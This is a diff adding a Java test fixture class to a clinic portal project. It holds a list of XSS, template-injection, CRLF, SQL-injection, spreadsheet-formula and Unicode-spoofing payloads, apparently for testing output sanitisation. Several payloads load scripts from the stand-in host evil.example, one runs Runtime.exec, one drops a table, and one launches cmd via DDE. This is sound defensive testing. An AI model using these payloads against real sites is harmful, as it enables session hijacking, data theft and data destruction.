@@ -1,0 +1,72 @@
+package clinic.portal;
+
+import java.util.List;
+
+/// What somebody could type who wants to get at those who read it.
+final class HostileText {
+
+    private HostileText() {}
+
+    /// Each calls `canary`, opens a dialog, asks `evil.example` for something, or breaks out of where it stands.
+    static final List<String> PAYLOADS = List.of(
+            "<script>canary()</script>",
+            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+            "<script type=module>import '//evil.example/m.js'</script>",
+            "<img src=x onerror=canary()>",
+            "<img src=//evil.example/pixel.gif>",
+            "<img src=\"https://evil.example/a.png\" srcset=\"//evil.example/b.png 2x\">",
+            "<svg onload=canary()>",
+            "<svg><script>canary()</script></svg>",
+            "<svg><animate onbegin=canary() attributeName=x dur=1s>",
+            "<svg><use href=\"//evil.example/x.svg#a\"/></svg>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
+            "<iframe src=javascript:canary()></iframe>",
+            "<iframe srcdoc=\"<script>parent.canary()</script>\"></iframe>",
+            "<object data=//evil.example/o></object><embed src=//evil.example/e>",
+            "<a href=javascript:canary()>follow me</a>",
+            "javascript:canary()",
+            "JaVaScRiPt:/*--></title></style></textarea></script><svg/onload=canary()>//",
+            "data:text/html,<script>canary()</script>",
+            "<details open ontoggle=canary()>x</details>",
+            "<video><source onerror=canary()></video><audio src=x onerror=canary()>",
+            "<body onload=canary()>",
+            "<input autofocus onfocus=canary()>",
+            "<select autofocus onfocus=canary()>",
+            "<marquee onstart=canary()>x</marquee>",
+            "<form action=//evil.example><button>Save</button></form>",
+            "<base href=//evil.example/>",
+            "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
+            "<link rel=stylesheet href=//evil.example/x.css>",
+            "<style>@import '//evil.example/i.css'; *{background:url(//evil.example/bg)}</style>",
+            "<div style=\"background:url(//evil.example/s);position:fixed;inset:0\">x</div>",
+            "\"><script>canary()</script>",
+            "'><img src=x onerror=canary()>",
+            "\" onmouseover=\"canary()\" autofocus onfocus=\"canary()\" x=\"",
+            "' onfocus='canary()' autofocus x='",
+            "</textarea><script>canary()</script>",
+            "</title><script>canary()</script>",
+            "</option></select><img src=x onerror=canary()>",
+            "<!--><img src=x onerror=canary()>-->",
+            "<![CDATA[<script>canary()</script>]]>",
+            "${7*7} #{7*7} *{7*7} ~{7*7} @{7*7}",
+            "[[${7*7}]] [(${7*7})] __${7*7}__::.x",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "{{7*7}} {{constructor.constructor('canary()')()}} <%= 7*7 %>",
+            "<div hx-get=//evil.example/h hx-trigger=load>x</div>",
+            "<div data-hx-get=//evil.example/d data-hx-trigger=load>x</div>",
+            "<div hx-on::load=canary() hx-on:click=canary()>x</div>",
+            "<div hx-get=/cases hx-trigger=load hx-target=body>x</div>",
+            "\" hx-get=\"//evil.example/q\" hx-trigger=\"load\" x=\"",
+            "first\r\nSet-Cookie: canary=1\r\n\r\n<script>canary()</script>",
+            "[follow](javascript:canary()) ![x](//evil.example/md.png) **bold**",
+            "=HYPERLINK(\"//evil.example\",\"x\") @SUM(1+1)*cmd|' /C calc'!A0",
+            "'; drop table case_row; -- \" or 1=1",
+            "right\u202Etfel\u202C and isolate \u2066x\u2069",
+            "zero\u200Bwidth\u200Djoiner\uFEFF and \u0430dmin in Cyrillic",
+            "<\u0000script>canary()</script>",
+            "<scr<script>ipt>canary()</scr</script>ipt>",
+            "%3Cscript%3Ecanary()%3C/script%3E &lt;script&gt;canary()&lt;/script&gt; &#60;script&#62;",
+            "\uFF1Cscript\uFF1Ecanary()\uFF1C/script\uFF1E",
+            "<template><script>canary()</script></template><noscript><img src=x onerror=canary()></noscript>",
+            "long ".repeat(300) + "<script>canary()</script>");
+}
